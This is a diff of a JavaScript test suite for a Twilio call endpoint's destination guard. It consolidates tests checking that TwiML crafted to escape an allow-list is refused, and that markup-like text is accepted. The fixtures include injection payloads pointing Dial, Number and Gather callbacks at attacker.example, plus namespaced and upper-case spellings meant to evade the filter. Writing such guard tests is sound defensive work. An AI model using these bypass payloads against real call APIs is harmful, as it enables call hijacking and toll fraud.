@@ -273,27 +273,7 @@ describe('destination guard (ALLOWED_DESTINATIONS) and MAX_SEGMENTS', () => {
       '<Response><Dial><Number url="https://attacker.example/w.xml">+14155550101</Number></Dial></Response>',
     ],
     ['a Gather action', '<Response><Gather action="https://attacker.example/g.xml"/></Response>'],
-  ])('TwiML that escapes the list through %s is refused', async (_, twiml) => {
-    const { seen } = installFakeTwilio();
-    const body = { from: '+15005550006', to: '+14155550100', twiml };
-    const answer = await ask({ path: '/api/Twilio/makeCall', body, headers, env: guarded });
-    expect(answer.status, answer.text).toBe(403);
-    expect(seen).toHaveLength(0);
-  });
-
-  it.each([
-    ['escaped markup', '<Response><Say>x&lt;Dial&gt;+4930123456&lt;/Dial&gt;</Say></Response>'],
-    ['url= in spoken text', '<Response><Say>fix url= bug</Say></Response>'],
-    ['markup inside CDATA', '<Response><Say><![CDATA[a <Redirect>https://x.example</Redirect>]]></Say></Response>'],
-  ])('text that only looks like markup (%s) is not refused: Twilio reads it as text', async (_, twiml) => {
-    const { seen } = installFakeTwilio();
-    const body = { from: '+15005550006', to: '+14155550100', twiml };
-    expect((await ask({ path: '/api/Twilio/makeCall', body, headers, env: guarded })).status).toBe(200);
-    expect(seen).toHaveLength(1);
-  });
-
-  // Issue 23: every spelling the guard knows; the namespaced ones and a number after a child got through before.
-  it.each([
+    // Issue 23: every spelling the guard knows; the namespaced ones and a number after a child got through before.
     ['a namespaced Dial', '<Response><t:Dial xmlns:t="x">+4915112345678</t:Dial></Response>'],
     ['a namespaced Number', '<Response><Dial><t:Number xmlns:t="x">+4930123456</t:Number></Dial></Response>'],
     [
@@ -335,12 +315,23 @@ describe('destination guard (ALLOWED_DESTINATIONS) and MAX_SEGMENTS', () => {
       '<Response><Dial><Number sendDigits=">" url="https://attacker.example/w.xml">+14155550101</Number></Dial></Response>',
     ],
     ['an upper-case ACTION', '<Response><Gather ACTION="https://attacker.example/g.xml"/></Response>'],
-  ])('TwiML that escapes the list through %s is refused (issue 23 sweep)', async (_, twiml) => {
+  ])('TwiML that escapes the list through %s is refused', async (_, twiml) => {
     const { seen } = installFakeTwilio();
     const body = { from: '+15005550006', to: '+14155550100', twiml };
     const answer = await ask({ path: '/api/Twilio/makeCall', body, headers, env: guarded });
     expect(answer.status, answer.text).toBe(403);
     expect(seen).toHaveLength(0);
+  });
+
+  it.each([
+    ['escaped markup', '<Response><Say>x&lt;Dial&gt;+4930123456&lt;/Dial&gt;</Say></Response>'],
+    ['url= in spoken text', '<Response><Say>fix url= bug</Say></Response>'],
+    ['markup inside CDATA', '<Response><Say><![CDATA[a <Redirect>https://x.example</Redirect>]]></Say></Response>'],
+  ])('text that only looks like markup (%s) is not refused: Twilio reads it as text', async (_, twiml) => {
+    const { seen } = installFakeTwilio();
+    const body = { from: '+15005550006', to: '+14155550100', twiml };
+    expect((await ask({ path: '/api/Twilio/makeCall', body, headers, env: guarded })).status).toBe(200);
+    expect(seen).toHaveLength(1);
   });
 
   it.each([
